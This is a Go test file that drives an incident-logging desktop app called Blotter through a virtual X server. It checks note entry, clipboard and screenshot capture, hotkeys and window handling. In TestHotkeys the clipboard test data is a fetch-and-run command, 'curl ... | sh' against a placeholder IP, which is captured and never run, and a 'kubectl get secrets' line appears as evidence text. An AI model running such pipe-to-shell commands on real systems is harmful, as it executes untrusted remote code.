package desktoptest

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jezek/xgb"
	"github.com/jezek/xgb/xproto"

	"github.com/blotterapp/blotter/internal/blotter"
	"github.com/blotterapp/blotter/internal/capture"
	"github.com/blotterapp/blotter/internal/childproc"
)

// appEnv is set for every app a test starts: nothing here needs GTK's accessibility bridge.
const appEnv = "NO_AT_BRIDGE=1"

// guiBinary returns the desktop binary under test, or skips when none was built.
func guiBinary(t *testing.T) string {
	bin := os.Getenv("BLOTTER_GUI_BINARY")
	if bin == "" {
		t.Skip("BLOTTER_GUI_BINARY is not set: `make test` builds the desktop binary and sets it")
	}
	for _, tool := range []string{"Xvfb", "xdotool", "import"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is missing (make deps installs it): %v", tool, err)
		}
	}
	return bin
}

// startXvfb starts a virtual X server of the given size and returns its DISPLAY.
func startXvfb(t *testing.T, size string) string {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("Xvfb", "-displayfd", "3", "-screen", "0", size+"x24", "-nolisten", "tcp")
	cmd.ExtraFiles = []*os.File{w}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	w.Close()
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	line, err := bufio.NewReader(r).ReadString('\n')
	if err != nil {
		t.Fatalf("Xvfb did not say its display: %v", err)
	}
	return ":" + strings.TrimSpace(line)
}

// app is a running desktop app on a display.
type app struct {
	t       *testing.T
	bin     string
	display string
	dataDir string
	window  string
	logs    *childproc.Output
}

func startApp(t *testing.T, bin, display, dataDir string, flags ...string) *app {
	t.Helper()
	if os.Getenv("DBUS_SESSION_BUS_ADDRESS") == "" {
		// Without one, GTK and WebKit autolaunch a session bus (and an accessibility bus on it)
		// that outlive the test; one of the test's own is stopped with it.
		privateBus(t)
	}
	cmd := exec.Command(bin, append([]string{"--data-dir", dataDir}, flags...)...)
	cmd.Env = append(os.Environ(), "DISPLAY="+display, appEnv)
	logs := &childproc.Output{}
	cmd.Stdout, cmd.Stderr = logs, logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		if t.Failed() {
			t.Logf("app output:\n%s", logs.String())
		}
	})
	a := &app{t: t, bin: bin, display: display, dataDir: dataDir, logs: logs}
	a.window = waitFor(t, 20*time.Second, "the window to map", func() (string, bool) {
		out, err := a.x("xdotool", "search", "--onlyvisible", "--name", "^Blotter$")
		id := strings.TrimSpace(strings.Split(out, "\n")[0])
		return id, err == nil && id != ""
	})
	return a
}

// x runs an X client on the app's display.
func (a *app) x(name string, args ...string) (string, error) {
	cmd := exec.Command(name, args...)
	cmd.Env = append(os.Environ(), "DISPLAY="+a.display)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// cli runs a CLI command of the same binary on the same data dir.
func (a *app) cli(args ...string) string {
	a.t.Helper()
	out, err := exec.Command(a.bin, append([]string{"--data-dir", a.dataDir}, args...)...).Output()
	if err != nil {
		a.t.Fatalf("blotter %v: %v", args, err)
	}
	return strings.TrimSpace(string(out))
}

// waitFor polls check until it succeeds or the timeout passes.
func waitFor(t *testing.T, timeout time.Duration, what string, check func() (string, bool)) string {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		v, ok := check()
		if ok {
			return v
		}
		if time.Now().After(deadline) {
			if v != "" {
				t.Fatalf("timed out waiting for %s (last seen: %s)", what, v)
			}
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// screenshot captures the app's window.
func (a *app) screenshot() image.Image {
	a.t.Helper()
	cmd := exec.Command("import", "-window", a.window, "png:-")
	cmd.Env = append(os.Environ(), "DISPLAY="+a.display)
	out, err := cmd.Output()
	if err != nil {
		a.t.Fatalf("screenshot: %v", err)
	}
	img, err := png.Decode(bytes.NewReader(out))
	if err != nil {
		a.t.Fatalf("screenshot: %v", err)
	}
	return img
}

// still waits until the window stops changing (longer than a caret blink) and returns it.
func (a *app) still(t *testing.T) image.Image {
	t.Helper()
	last := a.screenshot()
	waitFor(t, 10*time.Second, "the window to be still", func() (string, bool) {
		time.Sleep(700 * time.Millisecond)
		now := a.screenshot()
		same := sameImage(last, now)
		last = now
		return "", same
	})
	return last
}

// readable returns which of words OCR (tesseract) reads in the window now. The screenshot is
// enlarged and turned dark-on-light first, as OCR reads best.
func (a *app) readable(t *testing.T, words []string) []string {
	t.Helper()
	if _, err := exec.LookPath("tesseract"); err != nil {
		t.Fatalf("tesseract is missing (make deps installs tesseract-ocr): %v", err)
	}
	shot := filepath.Join(t.TempDir(), "window.png")
	var buf bytes.Buffer
	if err := png.Encode(&buf, a.screenshot()); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(shot, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("convert", shot, "-resize", "200%", "-colorspace", "Gray", "-negate", shot).CombinedOutput(); err != nil {
		t.Fatalf("convert: %v %s", err, out)
	}
	out, err := exec.Command("tesseract", shot, "-", "--psm", "11").Output()
	if err != nil {
		t.Fatalf("tesseract: %v", err)
	}
	text := strings.ToUpper(string(out))
	var seen []string
	for _, w := range words {
		if strings.Contains(text, w) {
			seen = append(seen, w)
		}
	}
	return seen
}

func distinctColors(img image.Image) int {
	seen := map[[3]uint32]bool{}
	b := img.Bounds()
	for y := b.Min.Y; y < b.Max.Y; y += 2 {
		for x := b.Min.X; x < b.Max.X; x += 2 {
			r, g, bl, _ := img.At(x, y).RGBA()
			seen[[3]uint32{r >> 8, g >> 8, bl >> 8}] = true
		}
	}
	return len(seen)
}

func sameImage(a, b image.Image) bool {
	if a.Bounds() != b.Bounds() {
		return false
	}
	for y := a.Bounds().Min.Y; y < a.Bounds().Max.Y; y++ {
		for x := a.Bounds().Min.X; x < a.Bounds().Max.X; x++ {
			if a.At(x, y) != b.At(x, y) {
				return false
			}
		}
	}
	return true
}

func (a *app) entries() []blotter.Entry {
	var list []blotter.Entry
	if err := json.Unmarshal([]byte(a.cli("timeline", "--json")), &list); err != nil {
		a.t.Fatal(err)
	}
	return list
}

func TestDesktopWindow(t *testing.T) {
	bin := guiBinary(t)
	display := startXvfb(t, "1600x900")
	dataDir := filepath.Join(t.TempDir(), "data")
	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Desktop test incident").CombinedOutput(); err != nil {
		t.Fatalf("incident new: %v %s", err, out)
	}
	a := startApp(t, bin, display, dataDir)

	// GTK maps the window under the program's name ("blotter"; xdotool's search ignores case)
	// and Wails sets the title a moment later.
	waitFor(t, 10*time.Second, "the window title Blotter", func() (string, bool) {
		name, _ := a.x("xdotool", "getwindowname", a.window)
		return name, strings.TrimSpace(name) == "Blotter"
	})
	// The page has rendered: the window is not one flat colour.
	waitFor(t, 15*time.Second, "the window to render", func() (string, bool) {
		return "", distinctColors(a.screenshot()) > 20
	})

	t.Run("a note typed into the window lands in the database", func(t *testing.T) {
		// Keys go to the focused window through XTEST, as a person's would (WebKit ignores
		// events sent to a window directly).
		if out, err := a.x("xdotool", "windowfocus", "--sync", a.window); err != nil {
			t.Fatalf("xdotool windowfocus: %v %s", err, out)
		}
		pressed := time.Now()
		a.x("xdotool", "key", "n")
		a.x("xdotool", "type", "--delay", "15", "Typed into the window with xdotool")
		a.x("xdotool", "key", "Return")
		e := waitFor(t, 10*time.Second, "the typed note in the database", func() (string, bool) {
			for _, e := range a.entries() {
				if e.Text == "Typed into the window with xdotool" {
					return e.OccurredAt.Format(time.RFC3339Nano), true
				}
			}
			return "", false
		})
		at, _ := time.Parse(time.RFC3339Nano, e)
		if at.Before(pressed.Add(-time.Second)) || at.After(time.Now()) {
			t.Errorf("occurred_at %v is not when typing started (%v)", at, pressed)
		}
	})

	t.Run("a note added with the CLI appears in the window", func(t *testing.T) {
		// The window is read as a person reads it: its pixels, through OCR. Words that are
		// not on the screen before the CLI writes them must be read after it did.
		a.x("xdotool", "key", "Escape")
		words := []string{"QUARANTINE", "HOSTNAME", "WAREHOUSE"}
		if seen := a.readable(t, words); len(seen) > 0 {
			t.Fatalf("the window shows %v before the CLI wrote them: the check could not fail", seen)
		}
		a.cli("note", "QUARANTINE HOSTNAME WAREHOUSE")
		waitFor(t, 15*time.Second, "the window to show the CLI's note", func() (string, bool) {
			seen := a.readable(t, words)
			return strings.Join(seen, " "), len(seen) == len(words)
		})
	})
}

func TestNoDisplay(t *testing.T) {
	bin := guiBinary(t)
	cmd := exec.Command(bin, "--data-dir", t.TempDir())
	cmd.Env = append(os.Environ(), "DISPLAY=", "WAYLAND_DISPLAY=")
	out, err := cmd.CombinedOutput()
	exit, _ := err.(*exec.ExitError)
	if exit == nil || exit.ExitCode() != 69 || !strings.Contains(string(out), "no display") || strings.Contains(string(out), "panic") {
		t.Fatalf("without a display: %v\n%s", err, out)
	}
	// The CLI of the same binary needs none.
	cmd = exec.Command(bin, "--data-dir", t.TempDir(), "incident", "new", "headless")
	cmd.Env = append(os.Environ(), "DISPLAY=", "WAYLAND_DISPLAY=")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("CLI without a display: %v %s", err, out)
	}
}

// TestSingleInstance launches the app twice on one D-Bus session: the second launch hands over
// to the first and exits, and there is still one window.
func TestSingleInstance(t *testing.T) {
	bin := guiBinary(t)
	privateBus(t)

	display := startXvfb(t, "1280x800")
	dataDir := filepath.Join(t.TempDir(), "data")
	a := startApp(t, bin, display, dataDir)

	second := exec.Command(bin, "--data-dir", dataDir)
	second.Env = append(os.Environ(), "DISPLAY="+display, appEnv)
	done := make(chan error, 1)
	if err := second.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { done <- second.Wait() }()
	// Wails ends a launch that handed over with status 1; the first instance saying it was
	// handed the arguments is what shows the hand-over worked.
	select {
	case <-done:
	case <-time.After(15 * time.Second):
		second.Process.Kill()
		t.Fatal("the second launch did not hand over and exit")
	}
	waitFor(t, 5*time.Second, "the first instance to receive the hand-over", func() (string, bool) {
		return "", strings.Contains(a.logs.String(), "another launch handed over its arguments")
	})
	out2, _ := a.x("xdotool", "search", "--onlyvisible", "--name", "^Blotter$")
	if n := len(strings.Fields(out2)); n != 1 {
		t.Errorf("%d Blotter windows after a second launch, want 1", n)
	}
}

// privateBus starts a D-Bus session bus of the test's own and points the environment at it.
func privateBus(t *testing.T) {
	t.Helper()
	out, err := exec.Command("dbus-daemon", "--session", "--fork", "--print-address=1", "--print-pid=1").Output()
	if err != nil {
		t.Fatalf("dbus-daemon: %v", err)
	}
	fields := strings.Fields(string(out))
	if len(fields) < 2 {
		t.Fatalf("dbus-daemon said %q", out)
	}
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", fields[0])
	t.Cleanup(func() { exec.Command("kill", fields[1]).Run() })
}

// TestCaptureForwarding copies text and then an image with xclip and asks the running app to
// capture them with 'blotter capture clipboard', as a desktop shortcut would; then a screenshot.
func TestCaptureForwarding(t *testing.T) {
	bin := guiBinary(t)
	if _, err := exec.LookPath("xclip"); err != nil {
		t.Fatalf("xclip is missing (make deps installs it): %v", err)
	}
	privateBus(t)
	display := startXvfb(t, "1280x800")
	dataDir := filepath.Join(t.TempDir(), "data")
	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Clipboard test").CombinedOutput(); err != nil {
		t.Fatalf("incident new: %v %s", err, out)
	}
	a := startApp(t, bin, display, dataDir)

	copyToClipboard := func(mime string, data []byte) {
		// xclip leaves a child behind to serve the selection: no output pipes to wait on.
		cmd := exec.Command("xclip", "-selection", "clipboard", "-t", mime, "-i")
		cmd.Env = append(os.Environ(), "DISPLAY="+display)
		cmd.Stdin = bytes.NewReader(data)
		if err := cmd.Run(); err != nil {
			t.Fatalf("xclip: %v", err)
		}
	}
	captureKind := func(what string) (time.Time, time.Time) {
		before := time.Now()
		if out, err := exec.Command(bin, "capture", what).CombinedOutput(); err != nil {
			t.Fatalf("capture %s: %v %s", what, err, out)
		}
		return before, time.Now()
	}
	capture := func() (time.Time, time.Time) { return captureKind("clipboard") }
	entryOf := func(kind blotter.Kind, match func(blotter.Entry) bool) blotter.Entry {
		var found blotter.Entry
		waitFor(t, 10*time.Second, "the "+string(kind)+" entry", func() (string, bool) {
			for _, e := range a.entries() {
				if e.Kind == kind && match(e) {
					found = e
					return "", true
				}
			}
			return "", false
		})
		return found
	}
	clipboardEntry := func(match func(blotter.Entry) bool) blotter.Entry { return entryOf(blotter.KindClipboard, match) }

	copyToClipboard("UTF8_STRING", []byte("kubectl get secrets -n payments # copied from a terminal"))
	before, after := capture()
	e := clipboardEntry(func(e blotter.Entry) bool { return strings.HasPrefix(e.Text, "kubectl get secrets") })
	if e.OccurredAt.Before(before) || e.OccurredAt.After(after) {
		t.Errorf("occurred_at %v is not when the command ran (%v to %v)", e.OccurredAt, before, after)
	}

	img := image.NewRGBA(image.Rect(0, 0, 40, 30))
	for i := range img.Pix {
		img.Pix[i] = byte(i * 7)
	}
	var pngData bytes.Buffer
	if err := png.Encode(&pngData, img); err != nil {
		t.Fatal(err)
	}
	copyToClipboard("image/png", pngData.Bytes())
	capture()
	shot := clipboardEntry(func(e blotter.Entry) bool { return len(e.Evidence) == 1 })
	if ev := shot.Evidence[0]; ev.MediaType != "image/png" || ev.SHA256 != sha256Hex(pngData.Bytes()) {
		t.Errorf("clipboard image evidence = %+v, want the PNG copied", ev)
	}

	// A screenshot: a PNG of the screen's size (one monitor, so the one under the pointer).
	before, after = captureKind("screenshot")
	screen := entryOf(blotter.KindScreenshot, func(e blotter.Entry) bool { return len(e.Evidence) == 1 })
	if screen.OccurredAt.Before(before) || screen.OccurredAt.After(after) {
		t.Errorf("screenshot occurred_at %v is not when the command ran", screen.OccurredAt)
	}
	ev := screen.Evidence[0]
	f, err := os.Open(filepath.Join(dataDir, "vault", ev.SHA256[:2], ev.SHA256))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cfg, err := png.DecodeConfig(f)
	if err != nil || cfg.Width != 1280 || cfg.Height != 800 || ev.MediaType != "image/png" {
		t.Errorf("screenshot PNG %dx%d (%v), %s; want 1280x800 image/png", cfg.Width, cfg.Height, err, ev.MediaType)
	}

	// The clipboard watch, turned on from the command line: each new content once.
	if out, err := exec.Command(bin, "capture", "clipboard-watch", "on").CombinedOutput(); err != nil {
		t.Fatalf("capture clipboard-watch on: %v %s", err, out)
	}
	time.Sleep(1500 * time.Millisecond) // the watch polls every second; what it found at start is not new
	watched := func() int {
		n := 0
		for _, e := range a.entries() {
			if strings.HasPrefix(e.Text, "watched ") {
				n++
			}
		}
		return n
	}
	for _, text := range []string{"watched one", "watched two", "watched one"} {
		copyToClipboard("UTF8_STRING", []byte(text))
		time.Sleep(1500 * time.Millisecond)
	}
	waitFor(t, 10*time.Second, "two watched entries", func() (string, bool) { return "", watched() == 2 })
	time.Sleep(1500 * time.Millisecond)
	if n := watched(); n != 2 {
		t.Errorf("the watch recorded %d entries for two distinct contents, want 2", n)
	}

	// The quick note from a desktop shortcut (the Wayland way): 'blotter capture note' opens
	// the app's quick-note box, and the note is timed when the command ran, not when saved.
	before, after = captureKind("note")
	a.waitFrame("the quick-note box", func(f frame) bool { return f.w <= 640 && f.h <= 176 })
	a.x("xdotool", "windowfocus", "--sync", a.window)
	time.Sleep(300 * time.Millisecond) // WebKit settles its own focus after the window's
	a.x("xdotool", "type", "--delay", "15", "Quick note from a desktop shortcut")
	a.x("xdotool", "key", "Return")
	note := entryOf(blotter.KindNote, func(e blotter.Entry) bool { return e.Text == "Quick note from a desktop shortcut" })
	if note.OccurredAt.Before(before) || note.OccurredAt.After(after) {
		t.Errorf("the quick note's occurred_at %v is not when 'capture note' ran (%v to %v)", note.OccurredAt, before, after)
	}
	a.waitFrame("the window back from the box", func(f frame) bool { return f.w > 640 })
}

func TestCaptureWithoutApp(t *testing.T) {
	bin := guiBinary(t)
	privateBus(t)
	out, err := exec.Command(bin, "capture", "clipboard").CombinedOutput()
	exit, _ := err.(*exec.ExitError)
	if exit == nil || exit.ExitCode() != 69 || !strings.Contains(string(out), "no Blotter app is running") {
		t.Fatalf("capture without the app: %v %s", err, out)
	}
}

func sha256Hex(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// TestHotkeys presses the global hotkeys with xdotool (XTEST, as a keyboard would) and checks
// that each capture is timed at the press.
func TestHotkeys(t *testing.T) {
	bin := guiBinary(t)
	display := startXvfb(t, "1280x800")
	dataDir := filepath.Join(t.TempDir(), "data")
	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Hotkey test").CombinedOutput(); err != nil {
		t.Fatalf("incident new: %v %s", err, out)
	}
	a := startApp(t, bin, display, dataDir)
	press := func(combo string) (time.Time, time.Time) {
		before := time.Now()
		if out, err := a.x("xdotool", "key", combo); err != nil {
			t.Fatalf("xdotool key %s: %v %s", combo, err, out)
		}
		return before, time.Now()
	}
	find := func(kind blotter.Kind, what string) blotter.Entry {
		var found blotter.Entry
		defer func() {
			if t.Failed() {
				for _, e := range a.entries() {
					t.Logf("entry: %s %q", e.Kind, e.Text)
				}
			}
		}()
		waitFor(t, 10*time.Second, what, func() (string, bool) {
			for _, e := range a.entries() {
				if e.Kind == kind && (kind != blotter.KindNote || e.Text == "Quick note by hotkey") {
					found = e
					return "", true
				}
			}
			return "", false
		})
		return found
	}
	inWindow := func(what string, at, from, to time.Time) {
		if at.Before(from) || at.After(to) {
			t.Errorf("%s occurred_at %v is not at the key press (%v to %v)", what, at, from, to)
		}
	}

	cmd := exec.Command("xclip", "-selection", "clipboard", "-i")
	cmd.Env = append(os.Environ(), "DISPLAY="+display)
	cmd.Stdin = strings.NewReader("curl -s http://203.0.113.7/stage2 | sh")
	if err := cmd.Run(); err != nil {
		t.Fatalf("xclip: %v", err)
	}
	from, to := press("ctrl+alt+c")
	inWindow("the clipboard capture", find(blotter.KindClipboard, "the clipboard entry").OccurredAt, from, to)

	from, to = press("ctrl+alt+s")
	inWindow("the screenshot", find(blotter.KindScreenshot, "the screenshot entry").OccurredAt, from, to)

	// The quick note: the press stamps the time; typing comes after (the window manager would
	// give the raised window the focus; a bare Xvfb has none, so the test does).
	shown := a.still(t)
	from, to = press("ctrl+alt+n")
	// The view shows the pressed time in the note box once it has handled the hotkey.
	waitFor(t, 10*time.Second, "the note box to show the hotkey's time", func() (string, bool) {
		return "", !sameImage(shown, a.screenshot())
	})
	a.x("xdotool", "windowfocus", "--sync", a.window)
	time.Sleep(300 * time.Millisecond) // WebKit settles its own focus after the window's
	a.x("xdotool", "type", "--delay", "15", "Quick note by hotkey")
	a.x("xdotool", "key", "Return")
	inWindow("the quick note", find(blotter.KindNote, "the quick note").OccurredAt, from, to)
}

// TestHotkeyConflict holds ctrl+alt+n in another X client first: the app says so plainly and
// its other hotkeys still work.
func TestHotkeyConflict(t *testing.T) {
	bin := guiBinary(t)
	display := startXvfb(t, "1280x800")
	t.Setenv("DISPLAY", display)
	note, _ := capture.ParseCombo("ctrl+alt+n")
	holder, conflicts, err := capture.StartHotkeys(map[string]capture.Combo{"other program": note}, func(string, time.Time) {})
	if err != nil || len(conflicts) != 0 {
		t.Fatalf("grabbing ctrl+alt+n first: %v %v", err, conflicts)
	}
	defer holder.Close()

	dataDir := filepath.Join(t.TempDir(), "data")
	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Conflict").CombinedOutput(); err != nil {
		t.Fatalf("incident new: %v %s", err, out)
	}
	a := startApp(t, bin, display, dataDir)
	waitFor(t, 10*time.Second, "the app to report the taken hotkey", func() (string, bool) {
		return "", strings.Contains(a.logs.String(), "hotkey ctrl+alt+n for note is taken by another program")
	})
	a.x("xdotool", "key", "ctrl+alt+s")
	waitFor(t, 10*time.Second, "the screenshot hotkey to still work", func() (string, bool) {
		for _, e := range a.entries() {
			if e.Kind == blotter.KindScreenshot {
				return "", true
			}
		}
		return "", false
	})
}

// TestWindowRemembersGeometry moves and resizes the window, closes it the way a window manager
// does (WM_DELETE_WINDOW), starts the app again and finds the window where it was left.
func TestWindowRemembersGeometry(t *testing.T) {
	bin := guiBinary(t)
	display := startXvfb(t, "1600x900")
	dataDir := filepath.Join(t.TempDir(), "data")
	a := startApp(t, bin, display, dataDir)
	a.x("xdotool", "windowsize", "--sync", a.window, "900", "650")
	a.x("xdotool", "windowmove", "--sync", a.window, "120", "80")
	waitFor(t, 5*time.Second, "the new geometry", func() (string, bool) {
		g := a.geometry()
		return g, g == "120,80 900x650"
	})
	closeWindow(t, display, a.window)
	waitFor(t, 10*time.Second, "the app to close", func() (string, bool) {
		out, _ := a.x("xdotool", "search", "--onlyvisible", "--name", "^Blotter$")
		return "", strings.TrimSpace(out) == ""
	})

	// It may map where Wails puts a new window and move once its page is ready.
	b := startApp(t, bin, display, dataDir)
	waitFor(t, 10*time.Second, "the window at 120,80 900x650", func() (string, bool) {
		g := b.geometry()
		return g, g == "120,80 900x650"
	})
}

// geometry returns "x,y wxh" of the app's window.
func (a *app) geometry() string {
	out, _ := a.x("xdotool", "getwindowgeometry", a.window)
	var pos, size string
	for _, line := range strings.Split(out, "\n") {
		f := strings.Fields(line)
		switch {
		case len(f) >= 2 && f[0] == "Position:":
			pos = f[1]
		case len(f) >= 2 && f[0] == "Geometry:":
			size = f[1]
		}
	}
	return pos + " " + size
}

// closeWindow asks a window to close with WM_DELETE_WINDOW, as a window manager's close button.
func closeWindow(t *testing.T, display, window string) {
	t.Helper()
	conn, err := xgb.NewConnDisplay(display)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	atom := func(name string) xproto.Atom {
		r, err := xproto.InternAtom(conn, false, uint16(len(name)), name).Reply()
		if err != nil {
			t.Fatal(err)
		}
		return r.Atom
	}
	var id uint32
	fmt.Sscan(window, &id)
	ev := xproto.ClientMessageEvent{
		Format: 32, Window: xproto.Window(id), Type: atom("WM_PROTOCOLS"),
		Data: xproto.ClientMessageDataUnionData32New([]uint32{uint32(atom("WM_DELETE_WINDOW")), 0, 0, 0, 0}),
	}
	if err := xproto.SendEventChecked(conn, false, xproto.Window(id), xproto.EventMaskNoEvent, string(ev.Bytes())).Check(); err != nil {
		t.Fatal(err)
	}
}
